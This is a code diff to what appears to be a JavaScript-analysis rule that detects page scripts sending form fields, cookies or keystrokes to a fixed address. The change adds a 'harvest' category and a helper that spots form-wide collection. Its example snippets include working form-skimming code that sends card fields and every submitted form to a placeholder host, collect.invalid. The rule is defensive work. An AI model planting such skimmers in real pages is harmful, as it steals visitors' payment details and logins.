@@ -35,6 +35,7 @@ export default defineRule({
       keys: 'Sends the keys that are pressed to an address fixed in its code',
       both: 'Sends form fields and cookies of the page through {sink}',
       cookies: 'Sends all cookies of the page to an address fixed in its code',
+      harvest: 'Gathers the fields of any form of the page and sends them to an address fixed in its code',
       fields: 'Sends what is typed into the page to an address fixed in its code',
       page: 'Sends {what} of the page through {sink}',
     },
@@ -45,7 +46,8 @@ export default defineRule({
       sensitive: 10,
       keys: 10,
       both: 11,
-      cookies: 7,
+      harvest: 8.5,
+      cookies: 8.5,
       fields: 4,
       page: 2,
     },
@@ -63,6 +65,10 @@ export default defineRule({
       {
         title: 'a form with a card field is pointed elsewhere',
         code: `for (const form of document.forms)\n  for (const field of form.elements)\n    if (field.name == 'cvc')\n      form.addEventListener('submit', function () {\n        let all = '';\n        for (const one of this.elements) all += one.name + '=' + one.value;\n        this.action = 'https://collect.invalid/?d=' + btoa(all);\n      });`,
+      },
+      {
+        title: 'whatever is submitted on the page is sent elsewhere, too',
+        code: `document.addEventListener('submit', event => {\n  const data = {};\n  new FormData(event.target).forEach((value, key) => { data[key] = value; });\n  navigator.sendBeacon('https://collect.invalid/f', JSON.stringify(data));\n}, true);`,
       },
       {
         title: 'keys are collected and sent',
@@ -102,7 +108,8 @@ export default defineRule({
       return sensitive ?? undefined;
     };
     for (const one of sent) {
-      const messageId = messageOf(one, interest);
+      const found = messageOf(one, interest);
+      const messageId = found === 'fields' && gathersForms(context) ? 'harvest' : found;
       if (messageId) report(one, messageId);
     }
     for (const one of packed) if (interest()) report(one, 'packs');
@@ -201,4 +208,19 @@ function sensitiveInterest({ nodes, textsOf, named }: FileContext): AnyNode | un
     const { regex } = node as { regex?: { pattern: string } };
     return regex !== undefined && (isCardPattern(regex.pattern) || isSensitiveField(regex.pattern));
   });
+}
+
+/** All fields of all forms, rather than those of a form of its own. */
+function gathersForms({ named, textsOf }: FileContext): boolean {
+  const anyField = named(/(?:^|\.)(?:querySelectorAll|getElementsByTagName)$|^\$$/).some(({ args }) =>
+    args[0]
+      ? textsOf(args[0]).some(text =>
+          /^(?:form|input|select|textarea)(?:\s*,\s*(?:form|input|select|textarea))*$/i.test(text),
+        )
+      : false,
+  );
+  const anyForm = named(/^(?:document|window)\.addEventListener$/).some(({ args }) =>
+    args[0] ? textsOf(args[0]).some(text => /^(?:submit|input|change)$/.test(text)) : false,
+  );
+  return anyField || anyForm;
 }
